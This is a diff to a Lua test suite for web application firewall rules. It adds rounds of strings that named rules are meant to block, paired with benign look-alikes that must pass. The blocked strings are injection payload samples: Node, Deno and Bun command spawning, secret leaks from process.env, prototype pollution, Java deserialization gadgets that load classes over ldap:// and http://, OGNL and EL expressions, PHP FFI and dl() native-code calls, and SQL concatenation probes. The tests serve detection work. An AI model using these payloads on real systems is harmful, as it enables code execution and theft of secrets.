@@ -68,4 +68,39 @@ describe_rules("edge.waf.rules second blind set (SQLi, SSTI, PHP, Java)", functi
             "@groovy.transform.ASTTest(value={1})" })
         clean({ "cursor.execute(query) runs the SQL", "we evaluate the new shell next sprint" })
     end)
+
+    it("round two, 135100/135110: bracket notation, other runtimes, shells to spawn, prototypes reached", function()
+        caught_by(135100, { "global['process']['env']", "globalThis[\"require\"]('fs')", "process['binding']('fs')",
+            "Deno.run({cmd:['id']})", "new Deno.Command('id')", "Bun.spawn(['id'])", "spawn('sh',['-c','id'])",
+            "execFileSync('/bin/bash', ['-c', 'id'])", "fork(\"cmd.exe\")", "res.send(__dirname)",
+            "res.end(process.env.SECRET)" })
+        caught_by(135110, { "Object.getPrototypeOf({}).admin=true", "Reflect.getPrototypeOf(x)['isAdmin'] = 1",
+            "x.__lookupGetter__('a')", "a.__defineSetter__('b', f)" })
+        clean({ "process.env is empty inside the container, check the compose file",
+            "Deno and Bun both start faster than node for small scripts",
+            "the spawn point in level 3 is broken; players fall through the map",
+            "Object.getPrototypeOf(x) === Foo.prototype is how we check it" })
+    end)
+
+    it("round two, 144100/144110/144130: class literals, polymorphic types, OGNL arithmetic, EL request objects",
+        function()
+        caught_by(144100, { "''.class.getSuperclass().getDeclaredMethods()", "x.class.getProtectionDomain()",
+            "org.hibernate.engine.spi.TypedValue", "{\"@class\":\"org.x.Evil\"}",
+            "[\"com.zaxxer.hikari.HikariConfig\",{\"metricRegistry\":\"ldap://x/a\"}]",
+            "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]" })
+        caught_by(144110, { "%{1+1}", "%{ 7 * 7 }" })
+        caught_by(144130, { "${param.cmd}", "${header['user-agent']}", "#{cookie.JSESSIONID}", "${paramValues.a[0]}" })
+        clean({ "use ${param:-default} in bash", "${HOME}/bin", "100%{width} is not valid CSS",
+            "com.zaxxer.hikari.HikariDataSource : HikariPool-1 - Starting...",
+            "[\"www.example.com\", \"api.example.com\"]", "the class.getName() call is cheap" })
+    end)
+
+    it("round two, 133110 and 142220: request input, posix, native code, reflection; the '-' probe", function()
+        caught_by(133110, { "getallheaders()['X']", "get_defined_vars()[\"_GET\"]", "posix_getpwuid(posix_geteuid())",
+            "posix_kill(1, 9)", "dl('exploit.so')", "FFI::cdef('int system(const char *c);')",
+            "(new ReflectionClass('PDO'))->newInstance()", "new ReflectionMethod('A','b')->invoke(null)" })
+        caught_by(142220, { "'-'", "' + '", "'||'", "'&'", " '^' " })
+        clean({ "getallheaders() returns nothing under php-fpm?", "the dl tag in HTML", "'-' means no value",
+            "ReflectionClass is slow in hot paths", "'a'-'b'" })
+    end)
 end)
